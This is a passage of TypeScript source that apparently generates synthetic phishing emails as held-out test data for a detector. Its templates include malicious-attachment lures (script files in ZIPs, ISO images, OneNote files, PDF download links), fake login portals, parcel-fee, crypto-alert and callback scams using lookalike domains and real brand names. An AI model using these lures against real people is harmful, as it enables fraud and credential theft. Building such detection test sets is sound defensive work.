    name: 'invoice-archive-script',
    kind: 'archive-script',
    lang: 'en',
    make(r) {
      const domain = gibberish(r);
      const n = digits(r, 6);
      const inner = `Invoice_${n}.${r.pick(['js', 'vbs', 'wsf', 'bat'])}`;
      return {
        headers: [from(person(r, domain).name, `billing@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([`Invoice ${n}`, `Documents for invoice ${n}`, 'Payment documents']),
        ...render(
          r,
          {
            paras: [
              'Hello,',
              r.pick([
                'Please see the attached invoice documents.',
                'Attached are the documents you requested.',
              ]),
            ],
            sig: ['Thank you'],
          },
          'text',
        ),
        parts: [part('application/zip', `Invoice_${n}.zip`, zipOf(inner))],
      };
    },
  },
  {
    name: 'purchase-order-disk-image',
    kind: 'disk-image',
    lang: 'en',
    make(r) {
      const domain = combosquat(r, r.pick(['procurement', 'tradeorders', 'globalsourcing']));
      const po = `PO${digits(r, 7)}`;
      return {
        headers: [from('Purchasing Department', `purchase@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([`New Purchase Order ${po}`, `RFQ – ${po}`, `Order confirmation ${po}`]),
        ...render(r, {
          paras: [
            'Dear Sir/Madam,',
            `Please find attached our purchase order ${po}. Kindly confirm price and delivery date.`,
          ],
          sig: ['Best regards', 'Purchasing'],
        }),
        parts: [part('application/x-iso9660-image', `${po}.${r.pick(['iso', 'img'])}`, diskImage())],
      };
    },
  },
  {
    name: 'shipping-docs-onenote',
    kind: 'onenote-attachment',
    lang: 'en',
    make(r) {
      const domain = gibberish(r);
      const n = digits(r, 8);
      return {
        headers: [from(r.pick(['Shipping Docs', 'Operations']), `ops@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([`Shipping documents BL${n}`, `Arrival notice ${n}`]),
        ...render(
          r,
          {
            paras: ['Hi,', 'Shipping documents attached. Double click "Open" to view the bill of lading.'],
            sig: ['Regards'],
          },
          'text',
        ),
        parts: [
          part(
            'application/onenote',
            `BL_${n}.one`,
            oneNote(r.pick(['Open.hta', 'View.cmd', 'Document.wsf'])),
          ),
        ],
      };
    },
  },
  {
    name: 'statement-pdf-download',
    kind: 'pdf-download-link',
    lang: 'en',
    make(r, to) {
      const domain = localWords(r, 'en');
      const n = digits(r, 6);
      const archive = `https://${r.pick([domain, hackedSite(r).host])}/download/Statement_${n}.${r.pick(['zip', 'msi', 'vbs'])}`;
      return {
        headers: [from('Billing', `statements@${domain}`), attackerAuth(r, domain)],
        subject: `Account statement ${n}`,
        ...render(
          r,
          {
            paras: [
              `Dear ${to.first},`,
              'Your statement is attached. If it does not display, use the download link inside the PDF.',
            ],
            sig: ['Billing Team'],
          },
          'text',
        ),
        parts: [
          part(
            'application/pdf',
            `Statement_${n}.pdf`,
            onePagePdf(
              [
                'This document is protected.',
                'Preview unavailable in your viewer.',
                'Click here to download the full document',
              ],
              { link: archive },
            ),
          ),
        ],
      };
    },
  },
  {
    name: 'secure-message-portal',
    kind: 'secure-message-portal',
    lang: 'en',
    make(r, to) {
      const sender = r.pick(['Harborview Bank', 'Redwood Trust Legal', 'Pinecrest Insurance']);
      const domain = combosquat(r, r.pick(['securemail', 'encrypted', 'securemsg']));
      return {
        headers: [from(`${sender} Secure Mail`, `securemail@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([`Secure message from ${sender}`, `[Encrypted] ${sender}: document for ${to.first}`]),
        ...render(r, {
          brand: { name: 'Secure Message Center', color: '#374151' },
          paras: [
            `You have received an encrypted message from ${sender}.`,
            'To read it, open the message and authenticate with your email account.',
            `This message expires on ${day(r, 'en')}.`,
          ],
          button: { label: 'Read Message', href: landing(r, to, 'securemsg', domain) },
        }),
      };
    },
  },
];

const scams: Template[] = [
  {
    name: 'parcel-customs-fee',
    kind: 'parcel-fee',
    lang: 'en',
    make(r, to) {
      const carrier = r.pick(['ParcelPoint', 'SwiftPost', 'USPS', 'Royal Mail']);
      const domain = combosquat(r, carrier.toLowerCase().replace(' ', ''));
      const fee = amount(1 + r.below(4) + r.pick([0.99, 0.49, 0.5]), 'en');
      return {
        headers: [from(carrier, `notify@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          `Your parcel is on hold: ${fee} fee due`,
          'Delivery attempt failed',
          `Package ${upper(r, 12)} awaiting payment`,
        ]),
        ...render(r, {
          brand: { name: carrier, color: r.pick(['#d40511', '#333366', '#004b87']) },
          paras: [
            r.pick([
              'We could not deliver your package because of an unpaid customs fee.',
              'Your package is waiting at our depot. Delivery requires a small handling fee.',
            ]),
            `Fee: ${fee}. Unpaid parcels are returned after 48 hours.`,
          ],
          button: {
            label: 'Pay and reschedule',
            href: withVictim(
              r,
              `https://${domain}/${r.pick(['track', 'pay', 'redelivery'])}/${upper(r, 10)}`,
              to,
            ),
          },
        }),
      };
    },
  },
  {
    name: 'loyalty-reward-survey',
    kind: 'prize-survey',
    lang: 'en',
    make(r) {
      const brand = r.pick(['Costco', 'Home Depot', 'Delta', 'Walgreens']);
      const domain = combosquat(r, brand.toLowerCase().replace(' ', ''));
      return {
        headers: [from(`${brand} Rewards`, `rewards@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          'Congratulations! You have been selected',
          `Your ${brand} loyalty reward is waiting`,
          'Confirm your reward before it expires',
        ]),
        ...render(
          r,
          {
            brand: { name: `${brand} Rewards`, color: '#e31837' },
            paras: [
              r.pick([
                `Complete a short survey about your recent visit to receive a ${r.pick(['Ninja air fryer', 'Stanley tumbler set', 'pair of AirPods'])}.`,
                'You have been chosen to receive an exclusive gift. Only pay shipping.',
              ]),
              'Offer valid today only.',
            ],
            button: { label: 'Claim now', href: freeHostLink(r, 'reward') },
          },
          'html',
        ),
      };
    },
  },
  {
    name: 'crypto-withdrawal-alert',
    kind: 'crypto-withdrawal',
    lang: 'en',
    make(r, to) {
      const exchange = r.pick(['Coinbase', 'Kraken', 'Binance']);
      const domain = combosquat(r, exchange.toLowerCase());
      return {
        headers: [from(exchange, `no-reply@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          'Withdrawal request received',
          `New withdrawal of ${(r.below(200) / 100 + 0.1).toFixed(4)} BTC`,
        ]),
        ...render(r, {
          brand: { name: exchange, color: '#0052ff' },
          paras: [
            `A withdrawal of ${(r.below(200) / 100 + 0.1).toFixed(4)} BTC to ${r.pick(['bc1q', '3'])}${token(r, 30)} was requested from your account ${to.email}.`,
            r.pick([
              'If you did not make this request, cancel it immediately.',
              'If this was not you, contact support or lock your account.',
            ]),
          ],
          button: {
            label: 'Cancel withdrawal',
            href: `https://${domain}/${r.pick(['cancel', 'security/lock'])}?tx=${hex(r, 16)}`,
          },
        }),
      };
    },
  },
  {
    name: 'renewal-callback',
    kind: 'callback-invoice',
    lang: 'en',
    make(r, to) {
      const product = r.pick([
        'Geek Squad Protection',
        'Norton 360 Deluxe',
        'McAfee Total Protection',
        'Windows Defender Premium',
      ]);
      const address = freeMail(r, person(r));
      const phone = `+1 (${800 + r.below(100)}) ${digits(r, 3)}-${digits(r, 4)}`;
      const total = amount(money(r, 280, 520), 'en');
      return {
        headers: [from(`${product} Billing`, address), passing(address.split('@')[1])],
        subject: r.pick([
          `Your subscription has been renewed – ${total}`,
          `Order confirmation #${digits(r, 9)}`,
          'Thank you for your payment',
        ]),
        text: [
          `Dear ${to.first},`,
          '',
          `Your ${product} plan was renewed for 3 years. ${total} will be charged to your account within 24 hours.`,
          r.pick([
            'If you did not authorise this renewal, call our billing desk to cancel and get a refund:',
            'To cancel and request a refund, call us:',
          ]),
          phone,
          '',
          'Billing Department',
        ].join('\r\n'),
        parts:
          r.below(2) === 0
            ? [
                part(
                  'application/pdf',
                  `Invoice_${digits(r, 6)}.pdf`,
                  onePagePdf([`${product}`, `Amount: ${total}`, `Customer support: ${phone}`]),
                ),
              ]
            : [],
      };
    },
  },
];

const TEMPLATES: readonly Template[] = [...credential, ...fraud, ...delivery, ...scams, ...LOCAL_TEMPLATES];

export const UNSEEN_10_KINDS: readonly string[] = [...new Set(TEMPLATES.map((t) => t.kind))];
export const UNSEEN_10_TEMPLATE_COUNT = TEMPLATES.length;

export async function unseenPhishing10(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  const out: { raw: string; kind: string; template: string }[] = [];
  for (const [index, template] of TEMPLATES.entries()) {
    const r = seededRandom(seed * 7919 + index);
    for (let k = 0; k < perTemplate; k++) {
      const to = person(r);
      const mail: Mail = await template.make(r, to);
      const raw = mimeMessage({
        ...mail,
        headers: [...mail.headers, `To: ${to.name} <${to.email}>`],
        number: 10_000_000 + out.length,
      });
      out.push({ raw, kind: template.kind, template: template.name });
    }
  }
  return out;
}
